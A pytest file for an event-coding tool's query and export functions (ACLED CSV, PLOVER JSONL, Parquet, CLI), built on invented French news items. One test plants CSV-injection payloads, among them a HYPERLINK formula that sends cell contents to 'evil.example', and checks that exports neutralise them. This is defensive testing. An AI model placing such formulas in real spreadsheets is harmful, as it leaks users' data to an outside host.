"""Query and export (kibaru.export, ``kibaru events`` / ``export`` / ``stats``): filters, the
ACLED CSV (exact header, inter codes, fatalities, English notes), PLOVER JSONL, Parquet, CSV and
JSONL round trips, statistics, and the CLI's exit status for bad usage and a missing store."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from typer.testing import CliRunner

import kibaru
from conftest import ROOT
from kibaru.cli import app
from kibaru.errors import StoreError, UsageError
from kibaru.export import (
    ACLED_COLUMNS,
    PLOVER_FIELDS,
    corpus_stats,
    events_frame,
    inter_code,
    iter_events,
    summary,
    write_acled_csv,
    write_csv,
    write_jsonl,
    write_parquet,
    write_plover_jsonl,
)
from kibaru.ingest import iter_inputs
from kibaru.store import Store, ingest

#: Articles written for these tests, with the events the coder gives them (pinned in
#: tests/test_coding_kinds.py and tests/test_store.py for most of them).
DOCS = [
    # AID RUS -> MLI, no date of its own (publication date 2024-01-22), attributed
    {"id": "rus", "published": "2024-01-22", "text":
     "Moscou a transféré 25 000 tonnes de blé au Mali, selon Maria Zakharova, porte-parole du "
     "ministère russe des Affaires étrangères."},
    # CONSULT visit MLI -> RUS on 2024-05-14 (the reverse direction of the same dyad)
    {"id": "visit", "published": "2024-05-16", "text":
     "Le président malien Assimi Goïta s'est rendu à Moscou mardi."},
    # ASSAULT, ACLED Violence against civilians / Attack: 12 killed, 5 injured, 2024-05-13
    {"id": "menaka", "published": "2024-05-16", "text":
     "Des hommes armés ont tué douze civils et blessé cinq autres lundi à Ménaka, selon des "
     "sources locales."},
    # PROTEST demo (ACLED Protests / Peaceful protest), undated
    {"id": "protest", "published": "2024-06-03", "text":
     "Des centaines de manifestants ont protesté à Bamako contre la présence française."},
    # AID denied by its actor (FRA)
    {"id": "denial", "published": "2023-09-15", "text":
     "Paris dément avoir fourni des armes aux rebelles touareg."},
    # COERCE arrest NER police -> NER civilians (ACLED Strategic developments / Arrests)
    {"id": "arrests", "published": "2024-07-06", "text":
     "La police a arrêté 30 manifestants à Niamey vendredi."},
    # ASSAULT, ACLED Battles / Government regains territory, 2024-01-30
    {"id": "tessalit", "published": "2024-02-01", "text":
     "Les Forces armées maliennes ont repris mardi le contrôle de Tessalit."},
    # not French: stored as rejected, no events
    {"id": "english", "published": "2024-02-01", "text":
     "The army said on Monday it had retaken the town after heavy fighting with rebels in the "
     "north of the country."},
]


@pytest.fixture(scope="module")
def db(nlp, tmp_path_factory) -> Path:
    """A store holding :data:`DOCS`, ingested through the store's Python API."""
    folder = tmp_path_factory.mktemp("export")
    source = folder / "docs.jsonl"
    source.write_text("\n".join(json.dumps(d, ensure_ascii=False) for d in DOCS) + "\n",
                      encoding="utf-8")
    path = folder / "k.duckdb"
    with Store(path) as store:
        summary_ = ingest(store, iter_inputs([str(source)]))
    assert summary_.new == len(DOCS) and summary_.rejected == {"not-french": 1}
    return path


def ids(db: Path, **filters) -> list[str]:
    return sorted(set(events_frame(db, **filters).doc_id))


# -- filters -----------------------------------------------------------------------------------

def test_every_event_is_there_once(db):
    frame = events_frame(db)
    assert sorted(frame.doc_id) == ["arrests", "denial", "menaka", "protest", "rus", "tessalit",
                                    "visit"]
    assert frame.event_id.is_unique
    assert {"type", "actor_country", "recipient_country", "date_value", "status",
            "acled_sub_event_type", "published", "source", "url"} <= set(frame.columns)
    assert "event_json" not in frame.columns
    assert "event_json" in events_frame(db, include_json=True).columns


def test_country_is_the_actor_or_the_recipient(db):
    assert ids(db, country="RUS") == ["rus", "visit"]
    assert ids(db, country="ner") == ["arrests"]  # case-insensitive
    # menaka's actor has no country: the place (Mali) does not count
    assert ids(db, country="MLI") == ["menaka", "protest", "rus", "tessalit", "visit"]


def test_dyad_in_either_direction(db):
    assert ids(db, dyad="RUS-MLI") == ["rus", "visit"]
    assert ids(db, dyad="MLI-RUS") == ["rus", "visit"]
    assert ids(db, dyad="rus-mli", directed=True) == ["rus"]
    assert ids(db, dyad="MLI-RUS", directed=True) == ["visit"]
    assert ids(db, dyad="NER-NER") == ["arrests"]
    # protesters in Bamako against "la présence française": Mali → France
    assert ids(db, dyad="FRA-MLI") == ["protest"]
    assert ids(db, dyad="FRA-MLI", directed=True) == []
    assert ids(db, dyad="FRA-NER") == []


def test_type_acled_status_filters(db):
    assert ids(db, type="AID") == ["denial", "rus"]
    assert ids(db, type=["aid", "COERCE"]) == ["arrests", "denial", "rus"]
    assert ids(db, acled="Attack") == ["menaka"]
    assert ids(db, acled="battles") == ["tessalit"]  # an event type, case-insensitive
    assert ids(db, acled=["Peaceful protest", "Arrests"]) == ["arrests", "protest"]
    assert ids(db, status="denied") == ["denial"]
    assert ids(db, status=["reported", "denied"]) == ids(db)


def test_since_until_on_the_event_date_else_the_publication_date(db):
    assert ids(db, since="2024-05-01") == ["arrests", "menaka", "protest", "visit"]
    assert ids(db, until="2024-01-31") == ["denial", "rus", "tessalit"]
    # tessalit's event is dated 2024-01-30, published 2024-02-01
    assert ids(db, since="2024-01-30", until="2024-01-30") == ["tessalit"]
    assert ids(db, since="2024-05-13", until="2024-05-14") == ["menaka", "visit"]
    assert ids(db, type="AID", country="MLI", until="2024-12-31") == ["rus"]


def test_free_text_ignores_case_and_accents(db):
    assert ids(db, q="menaka") == ["menaka"]  # "Ménaka" in the evidence and the place name
    assert ids(db, q="  MÉNAKA ") == ["menaka"]
    assert ids(db, q="Moscou") == ["rus", "visit"]
    assert ids(db, q="goita") == ["visit"]  # the actor "Assimi Goïta"
    assert ids(db, q="moscou", type="AID") == ["rus"]
    assert ids(db, q="Zürich") == []
    assert list(kibaru.open(db).events(q="ménaka").doc_id) == ["menaka"]
    with pytest.raises(UsageError) as info:
        events_frame(db, q=" ")
    assert info.value.code == "K310"
    runner = CliRunner()
    r = runner.invoke(app, ["events", "--db", str(db), "--q", "MENAKA", "--format", "jsonl"])
    assert r.exit_code == 0
    assert [json.loads(line)["document"]["id"] for line in r.output.splitlines()] == ["menaka"]
    r = runner.invoke(app, ["export", "--format", "acled-csv", "-", "--db", str(db),
                            "--q", "ménaka"])
    assert r.exit_code == 0 and len(r.output.splitlines()) == 2  # the header and menaka
    r = runner.invoke(app, ["events", "--db", str(db), "--q", ""])
    assert r.exit_code == 2 and "K310" in r.output


@pytest.mark.parametrize(("filters", "code"), [
    ({"since": "2024-13-01"}, "K312"),
    ({"until": "yesterday"}, "K312"),
    ({"dyad": "XYZ"}, "K313"),
    ({"dyad": "Russie-Mali"}, "K311"),
    ({"country": "Mali"}, "K311"),
    ({"directed": True}, "K313"),
])
def test_bad_filter_values_are_usage_errors(db, filters, code):
    with pytest.raises(UsageError) as info:
        events_frame(db, **filters)
    assert info.value.code == code


def test_a_missing_store_is_a_store_error(tmp_path):
    with pytest.raises(StoreError) as info:
        events_frame(tmp_path / "none.duckdb")
    assert info.value.code == "K402"
    assert not (tmp_path / "none.duckdb").exists()  # reading never creates a store


# -- ACLED ------------------------------------------------------------------------------------

def acled(db: Path, **filters) -> tuple[list[str], dict[str, dict[str, str]]]:
    out = io.StringIO()
    write_acled_csv(db, out, **filters)
    reader = csv.reader(io.StringIO(out.getvalue()))
    header = next(reader)
    rows = [dict(zip(header, r, strict=True)) for r in reader]
    return header, {r["event_id_cnty"].split("-", 1)[1]: r for r in rows}


def test_acled_csv_has_exactly_acleds_columns(db, tmp_path):
    path = tmp_path / "acled.csv"
    assert write_acled_csv(db, path) == 4
    with open(path, encoding="utf-8", newline="") as fh:
        header = next(csv.reader(fh))
    assert header == ["event_id_cnty", "event_date", "time_precision", "disorder_type",
                      "event_type", "sub_event_type", "actor1", "assoc_actor_1", "inter1",
                      "actor2", "assoc_actor_2", "inter2", "interaction", "civilian_targeting",
                      "iso", "region", "country", "admin1", "admin2", "admin3", "location",
                      "latitude", "longitude", "geo_precision", "source", "source_scale",
                      "notes", "fatalities", "tags", "timestamp"]
    assert tuple(header) == ACLED_COLUMNS
    assert not list(tmp_path.glob(".*tmp*"))  # the temporary file was renamed


def test_acled_rows_for_a_known_attack(db):
    _, rows = acled(db)
    frame = events_frame(db)
    menaka = frame[frame.doc_id == "menaka"].iloc[0]
    row = rows[menaka.event_id]
    assert row["event_id_cnty"] == f"MLI-{menaka.event_id}"
    assert row["event_date"] == "2024-05-13" and row["time_precision"] == "1"
    assert (row["disorder_type"], row["event_type"], row["sub_event_type"]) == (
        "Political violence", "Violence against civilians", "Attack")
    assert (row["actor1"], row["inter1"]) == ("Unidentified Armed Group (Mali)", "3")
    assert (row["actor2"], row["inter2"]) == ("Civilians (Mali)", "7")
    assert row["interaction"] == "37" and row["civilian_targeting"] == "Civilian targeting"
    assert (row["iso"], row["region"], row["country"]) == ("466", "Western Africa", "Mali")
    assert row["location"] == "Ménaka" and row["geo_precision"] == "1"
    assert abs(float(row["latitude"]) - 15.92) < 0.01
    assert row["fatalities"] == "12"  # the killed count; the 5 injured are not fatalities
    assert row["notes"] == ("On 13 May 2024, unidentified armed men attacked civilians (Mali) "
                            "with firearms in Ménaka, killing 12 civilians and injuring 5 "
                            "people, according to unnamed sources.")
    assert row["source"] == "docs.jsonl:3"  # no URL: the file, without local folders
    assert row["admin1"] == "" and row["source_scale"] == ""
    assert int(row["timestamp"]) > 1_600_000_000


def test_acled_rows_other_actor_types(db):
    _, rows = acled(db)
    by_doc = {r["notes"]: r for r in rows.values()}
    assert len(rows) == 4  # the ACLED-typed events; AID and CONSULT are not ACLED events
    protest = next(r for r in rows.values() if r["sub_event_type"] == "Peaceful protest")
    assert (protest["actor1"], protest["inter1"], protest["interaction"]) == (
        "Protesters (Mali)", "6", "60")
    assert protest["disorder_type"] == "Demonstrations"
    assert protest["time_precision"] == "3" and protest["event_date"] == "2024-06-03"
    assert "crowd size=at least 100" in protest["tags"]
    arrests = next(r for r in rows.values() if r["sub_event_type"] == "Arrests")
    assert (arrests["actor1"], arrests["inter1"], arrests["inter2"]) == (
        "Police Forces of Niger", "1", "7")
    assert arrests["disorder_type"] == "Strategic developments"
    assert arrests["civilian_targeting"] == ""
    regain = next(r for r in rows.values() if r["event_type"] == "Battles")
    assert (regain["actor1"], regain["inter1"], regain["interaction"]) == (
        "Military Forces of Mali", "1", "10")
    assert regain["notes"] == ("On 30 January 2024, the Malian Armed Forces regained control "
                               "of Tessalit.")
    french = ("civils", "manifestants", "hommes armés", "tué", "repris", "selon", "police a")
    assert not [n for n in by_doc if any(w in n for w in french)]  # nothing copied from French


def test_acled_statuses_and_filters(db):
    _, rows = acled(db, country="NER")
    assert [r["sub_event_type"] for r in rows.values()] == ["Arrests"]
    _, rows = acled(db, status="denied")  # asked for: written; the denied AID has no ACLED type
    assert rows == {}


def test_inter_codes_from_plover_sectors():
    def code(party, **kw):
        args = {"event_type": "Battles", "plover_type": "ASSAULT", "place_country": "MLI"}
        return inter_code(party, **(args | kw))

    assert code({"country": "MLI", "sector": "MIL"}) == 1
    assert code({"country": "MLI", "sector": "COP"}) == 1
    assert code({"country": "FRA", "sector": "MIL"}) == 8  # state forces abroad: external
    assert code({"country": "MLI", "sector": "REB"}) == 2
    assert code({"country": None, "sector": "UAF"}) == 3
    assert code({"country": "MLI", "sector": "PRM"}) == 3
    assert code({"country": "MLI", "sector": "PRM"}, context=["religion_ethnicity"]) == 4
    assert code({"country": "MLI", "sector": "CVL"}, event_type="Protests") == 6
    assert code({"country": "MLI", "sector": "CVL"}, event_type="Riots") == 5
    assert code({"country": "MLI", "sector": "CVL"}) == 7
    assert code({"country": "UNO", "sector": "MIL"}) == 8
    assert code({"country": "IGO", "sector": None}) == 8
    assert code({"country": "NGO", "sector": None}) == 8
    assert code({"country": "MLI", "sector": None}) is None
    assert code(None) is None


def test_notes_summarise_in_english_from_the_fields(db):
    by_doc = {i["doc_id"]: i["event"] for i in iter_events(db)}
    assert summary(by_doc["rus"]) == ("Russia (government) delivered 25000 t of wheat to Mali "
                                      "(government), according to Maria Zakharova.")
    assert summary(by_doc["visit"]) == ("On 14 May 2024, Assimi Goïta (Mali, government) "
                                        "visited Russia (government) in Moscow.")
    assert summary(by_doc["denial"]) == ("France (government) allegedly provided aid to "
                                         "rebels; the claim was denied.")
    planned = dict(by_doc["rus"], status="planned", attribution=None)
    assert summary(planned) == ("Russia (government) planned to deliver 25000 t of wheat to "
                                "Mali (government).")
    assert summary(dict(planned, status="negated")).startswith(
        "Russia (government) did not deliver 25000 t")


# -- PLOVER ------------------------------------------------------------------------------------

def test_plover_jsonl_records(db, tmp_path):
    path = tmp_path / "plover.jsonl"
    assert write_plover_jsonl(db, path) == 7
    records = {r["documentId"]: r for r in map(json.loads, path.read_text("utf-8").splitlines())}
    for r in records.values():
        assert set(PLOVER_FIELDS) <= set(r)
        assert r["coder"] == "kibaru 0.1.0" and r["version"].startswith("0.1.0+")
        assert isinstance(r["source"], list) and isinstance(r["target"], list)
    rus = records["rus"]
    assert rus["event"] == "AID" and rus["date"] == "2024-01-22"
    assert rus["datePrecision"] == "publication"
    assert rus["source"] == [{"code": "RUS", "sector": "GOV", "actorText": "Moscou"}]
    assert rus["target"][0]["code"] == "MLI"
    assert rus["eventText"] == "a transféré" and rus["size"] == 25000
    assert rus["comment"] == ("Russia (government) delivered 25000 t of wheat to Mali "
                              "(government), according to Maria Zakharova.")
    menaka = records["menaka"]
    assert (menaka["dead"], menaka["injured"]) == (12, 5)
    assert menaka["mode"] == "firearms" and menaka["date"] == "2024-05-13"
    assert menaka["eventLoc"] == {"geonameid": 2453514, "name": "Ménaka",
                                  "latitude": pytest.approx(15.91985),
                                  "longitude": pytest.approx(2.39609), "country code": "ML",
                                  "cc3": "MLI", "feature class": "P"}
    info = menaka["textInfo"]
    assert menaka["text"] == info["sentence"] == DOCS[2]["text"]
    assert (info["start"], info["end"]) == (0, len(DOCS[2]["text"]))
    assert menaka["language"] == "fr" and menaka["url"] is None
    tessalit = records["tessalit"]
    assert tessalit["source"][0]["identifier"] == "Malian Armed Forces"
    assert tessalit["target"] == [] and tessalit["acled"]["event_type"] == "Battles"


# -- CSV, JSONL, Parquet -----------------------------------------------------------------------

def test_csv_and_jsonl_writers(db):
    out = io.StringIO()
    assert write_csv(db, out, type="AID") == 2
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert sorted(r["doc_id"] for r in rows) == ["denial", "rus"]
    assert {r["context"] for r in rows} <= {"human_security", "military", "",
                                            "human_security;military"}
    out = io.StringIO()
    assert write_jsonl(db, out, dyad="MLI-RUS") == 2
    objects = [json.loads(line) for line in out.getvalue().splitlines()]
    assert {o["document"]["id"] for o in objects} == {"rus", "visit"}
    assert all(o["document"]["source"].endswith("docs.jsonl:" + str(
        1 + [d["id"] for d in DOCS].index(o["document"]["id"]))) for o in objects)
    assert all({"type", "actor", "recipient", "quantities", "evidence"} <= set(o)
               for o in objects)
    out = io.StringIO()
    assert write_csv(db, out, type="SANCTION") == 0
    assert out.getvalue().startswith("document_pk,event_no,event_id,")  # header only


def test_csv_cells_are_no_spreadsheet_formulas(db, tmp_path):
    """Text from web pages that a spreadsheet would run as a formula gets a leading
    apostrophe in every CSV export; numbers, negative ones included, stay numbers."""
    path = tmp_path / "k.duckdb"
    path.write_bytes(db.read_bytes())
    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
    with duckdb.connect(str(path)) as con:
        pk = con.execute("SELECT document_pk FROM documents WHERE doc_id = 'menaka'").fetchone()
        con.execute("UPDATE events SET evidence_text = ?, trigger_text = '@SUM(1)', "
                    "actor_text = '+cmd', recipient_text = ?, lat = -12.5 "
                    "WHERE document_pk = ?", [hyperlink, "\tTAB", pk[0]])
        con.execute("UPDATE documents SET title = '-2+3', source = '@evil', url = NULL "
                    "WHERE document_pk = ?", pk)
    out = io.StringIO()
    write_csv(path, out)
    rows = {r["doc_id"]: r for r in csv.DictReader(io.StringIO(out.getvalue()))}
    menaka = rows["menaka"]
    assert menaka["evidence_text"] == "'" + hyperlink
    assert (menaka["trigger_text"], menaka["actor_text"], menaka["recipient_text"],
            menaka["title"], menaka["source"]) == ("'@SUM(1)", "'+cmd", "'\tTAB", "'-2+3",
                                                   "'@evil")
    assert menaka["lat"] == "-12.5" and float(menaka["lon"]) > 0  # numbers stay numbers
    assert not any(v.startswith("'") for d, r in rows.items() if d != "menaka"
                   for v in r.values())
    # the CLI's CSV and ACLED CSV
    runner = CliRunner()
    r = runner.invoke(app, ["events", "--db", str(path), "--format", "csv"])
    assert r.exit_code == 0 and "'=HYPERLINK(" in r.output and "\n=" not in r.output
    r = runner.invoke(app, ["export", "--format", "acled-csv", "-", "--db", str(path)])
    assert r.exit_code == 0
    reader = csv.reader(io.StringIO(r.output))
    assert tuple(next(reader)) == ACLED_COLUMNS
    arows = [dict(zip(ACLED_COLUMNS, row, strict=True)) for row in reader]
    assert "'@evil" in {row["source"] for row in arows}
    assert "@evil" not in {row["source"] for row in arows}
    protest = next(row for row in arows if row["event_type"] == "Protests")
    assert float(protest["longitude"]) < 0 and not protest["longitude"].startswith("'")
    assert all(not row[c].startswith("'") for row in arows
               for c in ("latitude", "longitude", "fatalities", "inter1", "timestamp"))


def test_parquet_round_trip(db, tmp_path):
    path = tmp_path / "events.parquet"
    assert write_parquet(db, path) == 7
    frame = pd.read_parquet(path)
    expected = events_frame(db)
    assert list(frame.event_id) == list(expected.event_id)
    assert list(frame.columns) == list(expected.columns)
    menaka = frame[frame.doc_id == "menaka"].iloc[0]
    assert str(menaka.date_value) == "2024-05-13" and list(menaka.context) == ["military"]
    con = duckdb.connect()
    got = con.execute("SELECT type, count(*) FROM read_parquet(?) GROUP BY ALL ORDER BY 1",
                      [str(path)]).fetchall()
    con.close()
    assert got == [("AID", 2), ("ASSAULT", 2), ("COERCE", 1), ("CONSULT", 1), ("PROTEST", 1)]
    empty = tmp_path / "none.parquet"
    assert write_parquet(db, empty, type="SANCTION") == 0
    assert pd.read_parquet(empty).empty
    with pytest.raises(UsageError):
        write_parquet(db, "-")


# -- statistics ------------------------------------------------------------------------------

def test_corpus_stats(db):
    stats = corpus_stats(db)
    assert stats.documents == {"ok": 7, "rejected": 1} and stats.rejected == {"not-french": 1}
    assert stats.events == 7
    assert dict(stats.by_type) == {"AID": 2, "ASSAULT": 2, "COERCE": 1, "CONSULT": 1,
                                   "PROTEST": 1}
    assert ("RUS", "MLI", 1) in stats.by_dyad and ("MLI", "RUS", 1) in stats.by_dyad
    assert stats.undyadic == 7 - sum(n for *_, n in stats.by_dyad)
    assert dict(stats.by_month) == {"2023-09": 1, "2024-01": 2, "2024-05": 2, "2024-06": 1,
                                    "2024-07": 1}
    assert (stats.first, stats.last) == ("2024-01-30", "2024-07-05")


# -- the CLI, in process -----------------------------------------------------------------------

runner = CliRunner()


def test_cli_stats_prints_tables(db):
    r = runner.invoke(app, ["stats", "--db", str(db)])
    assert r.exit_code == 0, r.output
    for text in ("7 documents coded, 1 rejected (not-french 1); 7 events",
                 "events by type", "events by dyad", "events by month", "2024-05"):
        assert text in r.output
    assert "RUS" in r.output and "Russia" in r.output
    r = runner.invoke(app, ["stats", "--db", str(db), "--json"])
    assert r.exit_code == 0 and json.loads(r.output)["by_type"]["AID"] == 2


def test_cli_events_and_export(db, tmp_path):
    r = runner.invoke(app, ["events", "--db", str(db), "--dyad", "MLI-RUS", "--format",
                            "jsonl"])
    assert r.exit_code == 0, r.output
    assert len(r.output.strip().splitlines()) == 2
    r = runner.invoke(app, ["events", "--db", str(db), "--type", "AID,COERCE", "--format",
                            "csv"])
    assert r.exit_code == 0 and len(r.output.strip().splitlines()) == 4  # header + 3
    r = runner.invoke(app, ["events", "--db", str(db), "--format", "table", "--limit", "2"])
    assert r.exit_code == 0 and "2 of 7 events shown" in r.output
    assert max(len(line) for line in r.output.splitlines()) <= 120
    out = tmp_path / "a.csv"
    r = runner.invoke(app, ["export", "--format", "acled-csv", str(out), "--db", str(db),
                            "--acled", "Attack"])
    assert r.exit_code == 0 and "wrote 1 row(s)" in r.output
    assert out.read_text("utf-8").splitlines()[0] == ",".join(ACLED_COLUMNS)
    r = runner.invoke(app, ["export", "--format", "parquet", str(tmp_path / "e.parquet"),
                            "--db", str(db), "--since", "2024-05-01"])
    assert r.exit_code == 0 and len(pd.read_parquet(tmp_path / "e.parquet")) == 4


@pytest.mark.parametrize("args", [
    ["events", "--since", "2024-13-01"],
    ["events", "--dyad", "XYZ"],
    ["events", "--country", "Mali"],
    ["events", "--format", "parquet"],
    ["events", "--format", "yaml"],
    ["export", "--format", "acled-csv", "-", "--until", "soon"],
    ["export", "--format", "parquet", "-"],
])
def test_cli_bad_usage_exits_2(db, args):
    r = runner.invoke(app, [*args, "--db", str(db)])
    assert r.exit_code == 2, r.output
    assert "Traceback" not in r.output


@pytest.mark.parametrize("command", [["events"], ["export", "--format", "plover-jsonl", "-"],
                                     ["stats"]])
def test_cli_missing_store_exits_1(tmp_path, command):
    missing = tmp_path / "none.duckdb"
    r = runner.invoke(app, [*command, "--db", str(missing)])
    assert r.exit_code == 1, r.output
    assert "no store at" in r.output and "kibaru ingest" in r.output
    assert not missing.exists()


# -- end to end in subprocesses (slow) ---------------------------------------------------------

def run(*args: str) -> subprocess.CompletedProcess[str]:
    env = dict(os.environ, PYTHONWARNINGS="ignore")
    env.pop("COLUMNS", None)
    return subprocess.run([sys.executable, "-m", "kibaru.cli", *args], capture_output=True,
                          text=True, env=env, timeout=300, cwd=ROOT)


@pytest.mark.slow
def test_cli_subprocess_table_export_and_errors(db, tmp_path):
    p = run("events", "--db", str(db), "--format", "table")
    assert p.returncode == 0, p.stderr
    assert "7 events" in p.stdout and "ASSAULT" in p.stdout
    assert max(len(line) for line in p.stdout.splitlines()) <= 120
    p = run("events", "--db", str(db))  # piped: JSONL by default
    assert p.returncode == 0 and len(p.stdout.splitlines()) == 7
    p = run("export", "--format", "acled-csv", "-", "--db", str(db))
    assert p.returncode == 0 and p.stdout.splitlines()[0] == ",".join(ACLED_COLUMNS)
    p = run("stats", "--db", str(db))
    assert p.returncode == 0 and "events by month" in p.stdout
    p = run("events", "--db", str(tmp_path / "none.duckdb"))
    assert p.returncode == 1 and "no store at" in p.stderr
    p = run("events", "--db", str(db), "--since", "2024-13-01")
    assert p.returncode == 2 and "not a date" in p.stderr
